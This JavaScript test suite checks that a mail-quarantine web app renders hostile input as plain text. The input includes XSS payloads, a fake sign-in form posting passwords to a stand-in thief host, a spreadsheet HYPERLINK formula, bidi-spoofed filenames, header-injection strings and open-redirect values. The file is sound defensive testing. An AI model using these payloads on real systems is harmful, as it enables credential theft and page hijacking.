// Mail, rules and colleagues that attack whoever reviews: wherever any of what they wrote is shown,
// it is text. Nothing of it runs, loads, covers, or stands in the page as anything else.
import assert from 'node:assert/strict';
import { ADD_ME, ELLIE, letter } from './mail.mjs';
import { decideInWords, enter, run, signIn, test } from './support.mjs';

const RUN = '<script>document.title = "taken"; alert(1)</script>';
const LOAD = '<img src="http://tracker.example/seen.png" onerror="alert(2)">';
const QUOTES = '"\'><svg/onload=alert(3)>';
const BIDI = '\u202Egnp.exe\u202C\u2067';
const TEXT = [RUN, LOAD, QUOTES, '</textarea></pre></main></details></title></style>',
    '<a href="javascript:alert(4)">x</a>',
    '<meta http-equiv="refresh" content="0;url=//thief.example">',
    '<iframe srcdoc="<script>alert(5)</script>"></iframe><base href="//thief.example/">',
    '<form action="http://thief.example/"><input name="password" autofocus></form>',
    '<style>* { display: none } body { background: url(http://tracker.example/css) }</style>',
    '<div style="position: fixed; inset: 0; z-index: 9999">Sign in again</div>',
    '&lt;script&gt;alert(6)&lt;/script&gt; &#x3c;img src=x&#x3e; {1} %s', BIDI].join('\n');
const FORMULA = '=HYPERLINK("http://thief.example","open")';
const RULE = 'takes-over';

// A rule whose author wrote markup wherever words may stand.
const SETTINGS = `
phrase zebras
    about  has <b>zebras</b> in it ${LOAD}
    says   /zebra crossing/
rule ${RULE}
    clause    2.3
    title     ${RUN}${QUOTES}
    in-short  seems ${LOAD} to have done it
    severity  high
    from      staff
    to        any
    signal 3  zebras
    need      3 points
    action    quarantine
    explain   ${RUN}${LOAD}
    remedy    ${QUOTES}
    hit       zebra crossing ${RUN}
    miss      ${LOAD} ${QUOTES}
`;

const attachments = [
    { name: `<b onclick=alert(7)>${'x'.repeat(40)}.txt`, type: 'text/plain; charset=utf-8',
        content: `${ADD_ME}\n${TEXT}` },
    { name: '../../<script>alert(8)<\\/script>.html', type: 'text/html',
        content: `<p>${ADD_ME}</p>${TEXT}` },
    { name: '\u202Elmth.gpj', type: 'image/svg+xml',
        content: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(9)"/>' },
];

const mails = [
    letter({ name: 'words', to: [ELLIE], subject: `${RUN}${QUOTES}${BIDI}`,
        body: `${ADD_ME}\nzebra crossing\n${TEXT}\n`, html: `<p>${ADD_ME}</p>${TEXT}`,
        attachments }),
    letter({ name: 'people', from: '"<b>zoe"@kingsmead.example',
        to: ['"<img/src=x onerror=alert(1)>"@post.example', ELLIE], subject: FORMULA,
        body: `${ADD_ME}\nzebra crossing\n` }),
];
// What people are called stands before their addresses.
const withNames = (mail) => ({ ...mail, text: mail.text
    .replace(/^From: /, `X-Trick${'y'.repeat(60)}: ${RUN}\nX-Empty:\n` +
        `From: "${RUN} <b>" <x@y.example>, `)
    .replace(/^To: /m, 'To: "<iframe src=//thief.example>" <f@thief.example>, ') });

const PATHS = {
    '/': ['state', 'clause', 'severity', 'rule', 'from', 'to', 'age', 'mark', 'each', 'words',
        'page', 'notice', 'names'],
    '/incident/ID': ['names', 'whole', 'done', 'trouble'],
    '/incident/ID/headers': ['names'],
    '/incident/ID/attachment/1': ['names'],
    '/incident/ID/attachment/2': [],
    '/incident/ID/attachment/3': [],
    '/incident/ID/case': ['names', 'whole'],
    '/incident/ID/exempt': ['names'],
    '/exemptions': ['rule', 'show', 'names', 'done'],
    '/rules': ['q', 'show'],
    [`/rules/${RULE}`]: ['names', 'q'],
    '/try': ['text', 'scene'],
    '/reports': ['from', 'to', 'range', 'names'],
    '/governors': ['from', 'to', 'range'],
    '/audit': ['action', 'who', 'incident', 'before', 'from', 'to'],
    '/health': ['x'],
    '/account': ['done'],
    '/account/codes': ['done'],
};
const FULL = ['/?each=yes&names=1&state=all', `/?words=${encodeURIComponent(RUN)}`,
    '/incident/ID?names=1&whole=1', '/incident/ID/case?names=1', '/exemptions?names=1',
    '/incident/ID/exempt?names=1', '/reports?names=1'];

// What our own pages are made of.
const OURS = `a article aside bdi blockquote body button caption code datalist dd details dialog div
    dl dt em fieldset figcaption figure footer form h1 h2 h3 h4 head header html input kbd label
    legend li link main mark meta nav ol optgroup option p pre q script section select small span
    strong summary sup table tbody td textarea tfoot th thead time title tr ul canvas`.split(/\s+/);

// What on the page is not ours: elements, attributes that act, and what leads elsewhere. Only
// charts have a style of their own, from our script.
const strange = (page) => page.evaluate((ours) => {
    const found = [];
    for (const element of document.querySelectorAll('*')) {
        const tag = element.localName;
        // What has come of what was asked for is read out first: ours, and nothing one can type into.
        const isNews = /^(p|div)$/.test(tag) && /^(status|alert)$/.test(element.role ?? '');
        const isChart = tag === 'canvas' || element.querySelector(':scope > canvas');
        const odd = [...element.attributes].filter(({ name, value }) =>
            (name === 'style' && !isChart) ||
            /^(on|srcdoc$|http-equiv$|formaction$|ping$)/.test(name) ||
            (name === 'autofocus' && !isNews) ||
            (/^(href|src|action|data|xlink:href)$/.test(name) &&
                !/^[/#?]([^/]|$)/.test(value) && !/^otpauth:/.test(value)));
        if (!ours.includes(tag) || odd.length > 0)
            found.push(`<${tag} ${odd.map(({ name, value }) => `${name}=${value}`).join(' ')}>`);
    }
    return found;
}, OURS);

// Text that turns the direction of what follows, and is not kept to itself.
const turning = (page) => page.evaluate(() => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    const found = [];
    while (walker.nextNode()) {
        const text = walker.currentNode;
        if (!/[\u202A-\u202E\u2066-\u2069]/.test(text.data))
            continue;
        let at = text.parentElement;
        while (at && !/isolate|plaintext/.test(getComputedStyle(at).unicodeBidi) &&
            !/block|list-item|cell|grid|flex/.test(getComputedStyle(at).display))
            at = at.parentElement;
        if (!at || at === document.body)
            found.push(text.data.slice(0, 60));
    }
    return found;
});

// The heading, and the way out, are where a finger on them would reach them.
const covered = (page) => page.evaluate(() => {
    const reached = (element) => {
        element.scrollIntoView({ block: 'center' });
        const box = element.getClientRects()[0];
        const at = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
        return element === at || element.contains(at);
    };
    return ['h1', 'form[action$="/sign-out"] button'].filter((what) =>
        !reached(document.querySelector(what)));
});

async function inert(page, path) {
    assert.deepEqual(await strange(page), [], path);
    assert.deepEqual(await turning(page), [], path);
    assert.deepEqual(await covered(page), [], path);
    assert.match(await page.title(), / · schoolgate$/, path);
}

const incidents = [];
const about = (path, incident) => path.replace('ID', incident.id);

async function fill(service) {
    for (const mail of mails)
        incidents.push(await service.hold(withNames(mail)));
}

test('a colleague who writes markup and formulas into the record is put on record with it',
    async ({ open }) => {
        const page = await enter(open, 'officer');
        for (const incident of incidents) {
            await page.goto(about('/incident/ID', incident));
            await decideInWords(page, 'Add a note', TEXT);
            await inert(page, 'note');
            await decideInWords(page, 'Add a note', FORMULA);
            await decideInWords(page, 'Legal hold', `${RUN}${FORMULA}`);
            await inert(page, 'legal hold');
        }
        await page.goto(about('/incident/ID/exempt', incidents[0]));
        await page.locator(`input[name=rule][value=${RULE}]`).check();
        await page.locator('input[name=what][value=phrase]').check();
        await page.locator('input[name=words]').fill(`zebra ${LOAD}`);
        await page.getByLabel('for one month').check();
        await page.getByLabel('Why').fill(`${QUOTES}${RUN}`);
        await page.getByRole('button', { name: 'Show what will happen' }).click();
        await page.getByRole('button', { name: 'Exempt it' }).waitFor();
        await inert(page, 'exempt, before');
        await page.getByRole('button', { name: 'Exempt it' }).click();
        await page.waitForURL(/exemptions/);
        await inert(page, 'exempt');
    });

test('what it says is there to be read, as it was written', async ({ open }) => {
    const page = await enter(open, 'officer');
    for (const [path, words] of [
        ['/?each=yes&names=1', [RUN, QUOTES, FORMULA, '<b>zoe']],
        ['/incident/ID?names=1&whole=1',
            [RUN, LOAD, QUOTES, 'Sign in again', '<b onclick=alert(7)>']],
        ['/incident/ID/headers', [RUN, 'X-Trick', '<iframe src=//thief.example>']],
        ['/incident/ID/case', [RUN, LOAD, FORMULA]],
        ['/incident/ID/attachment/1', ['<b onclick=alert(7)>']],
        ['/exemptions?names=1', [LOAD, QUOTES]],
        [`/rules/${RULE}`, [RUN, LOAD, QUOTES]],
        [`/audit?incident=ID`, [RUN, FORMULA]],
    ]) {
        await page.goto(about(path, incidents[0]));
        const text = (await page.locator('body').textContent()).replace(/\s+/g, ' ');
        for (const word of words)
            assert.ok(text.includes(word), `${path} has ${word}`);
    }
});

test('nothing of it acts on any page, for whoever may read it', async ({ open }) => {
    for (const name of ['officer', 'head']) {
        const page = await enter(open, name);
        for (const incident of incidents)
            for (const path of [...Object.keys(PATHS), ...FULL]) {
                if (/attachment/.test(path) && incident === incidents[1])
                    continue;
                await page.goto(about(path, incident));
                await inert(page, path);
            }
    }
});

test('nor for those who see no text, who are not shown any of it', async ({ open }) => {
    const page = await enter(open, 'postmaster');
    for (const incident of incidents)
        for (const path of ['/?each=yes&names=1&state=all', '/incident/ID', '/incident/ID?names=1',
            '/incident/ID/case', '/exemptions', '/reports']) {
            await page.goto(about(path, incident));
            await inert(page, path);
            assert.doesNotMatch(await page.content(),
                /coachdanprice|tracker\.example\/css|HYPERLINK/, path);
        }
});

test('without scripts, and on paper, it covers nothing either', async ({ open }) => {
    const page = await enter(open, 'officer', { on: 'phone', script: false });
    await page.emulateMedia({ media: 'print' });
    await page.goto(about('/incident/ID/case', incidents[0]));
    assert.ok(await page.getByRole('heading', { level: 1 }).isVisible());
    await page.emulateMedia({ media: 'screen' });
    await page.goto(about('/incident/ID', incidents[0]));
    assert.ok(await page.getByText('Decide', { exact: true }).isVisible());
});

test('a message that is tried says nothing but text', async ({ open }) => {
    const page = await enter(open, 'officer');
    await page.goto('/try');
    await page.getByLabel('Subject').fill(`${RUN}${QUOTES}`);
    await page.getByLabel('Text', { exact: true }).fill(`${ADD_ME}\nzebra crossing\n${TEXT}`);
    await page.getByLabel('Who writes to whom').selectOption({ index: 1 });
    await page.getByRole('button', { name: 'Try it' }).click();
    await page.getByText('Nothing of this has been stored or sent.').waitFor();
    await inert(page, '/try');
    assert.match(await page.locator('main').textContent(), /zebra/);
});

test('an attached file is handed over as a file, whatever it says it is', async ({ open }) => {
    const page = await enter(open, 'officer');
    for (const number of [1, 2, 3]) {
        const path = `/incident/${incidents[0].id}/attachment/${number}`;
        await page.goto(path);
        const csrf = await page.locator('main input[name=csrf]').inputValue();
        const answer = await page.request.post(path, { form: { csrf } });
        const headers = answer.headers();
        assert.match(headers['content-disposition'], /^attachment/, path);
        assert.equal(headers['content-type'], 'application/octet-stream', path);
        assert.equal(headers['x-content-type-options'], 'nosniff', path);
        assert.match(headers['content-security-policy'], /default-src 'none'/, path);
        assert.doesNotMatch(headers['content-disposition'], /[<>/\\\u202E]|%E2%80%AE/, path);
        const [download] = await Promise.all([page.waitForEvent('download'),
            page.getByRole('button', { name: 'Download it all the same' }).click()]);
        assert.doesNotMatch(download.suggestedFilename(), /[<>/\\\u202E]|^\./);
        await download.delete();
    }
});

test('no parameter of any page comes back as anything but text', async ({ open }) => {
    const page = await enter(open, 'officer');
    const payload = `${QUOTES}${RUN}</title></script><x-odd>\u0000%0d%0aSet-Cookie: a=b`;
    const value = encodeURIComponent(payload);
    for (const [path, names] of Object.entries(PATHS))
        for (const name of names) {
            const url = `${about(path, incidents[1])}?${name}=${value}&${value}=${value}`;
            const answer = await page.request.get(url);
            const html = await answer.text();
            assert.ok(answer.status() < 500, `${url}: ${answer.status()}`);
            assert.doesNotMatch(html, /<x-odd|<svg\/onload|document\.title = "/, url);
            assert.equal(answer.headers()['set-cookie'], undefined, url);
        }
    for (const path of [`/incident/${value}`, `/rules/${value}`, `/${value}`,
        `/incident/x/${value}`]) {
        const answer = await page.request.get(path);
        assert.ok([400, 404].includes(answer.status()), `${path}: ${answer.status()}`);
        assert.doesNotMatch(await answer.text(), /<x-odd|<svg\/onload|document\.title = "/, path);
    }
    for (const next of ['//thief.example/', 'https://thief.example/', '/\\thief.example',
        'javascript:alert(1)', '/%09/thief.example']) {
        const stranger = await open();
        await stranger.goto(`/sign-in?next=${encodeURIComponent(next)}`);
        await signIn(stranger, 'officer');
        await stranger.getByRole('button', { name: 'Sign out' }).waitFor();
        assert.equal(new URL(stranger.url()).origin, new URL(page.url()).origin);
    }
});

// Cells of a table for a spreadsheet, which may have line ends within quotes.
const cells = (csv) => [...csv.matchAll(/"((?:[^"]|"")*)"|[^",\r\n]+/g)].map(([all, quoted]) =>
    quoted === undefined ? all : quoted.replaceAll('""', '"'));

test('no cell of a table for a spreadsheet is a formula', async ({ open }) => {
    const page = await enter(open, 'head');
    for (const [path, must] of [['/audit.csv', 'HYPERLINK'], ['/reports.csv', '<svg/onload']]) {
        const answer = await page.request.get(path);
        assert.equal(answer.status(), 200);
        const all = cells(await answer.text());
        assert.ok(all.some((cell) => cell.includes(must)), `${path} has ${must}`);
        assert.deepEqual(all.filter((cell) =>
            /^[=+\-@\t\r]/.test(cell) && !/^-?[0-9.]+$/.test(cell)), [], path);
    }
});

await run({ settings: SETTINGS, fill, accounts: ['officer', 'head', 'postmaster'] });
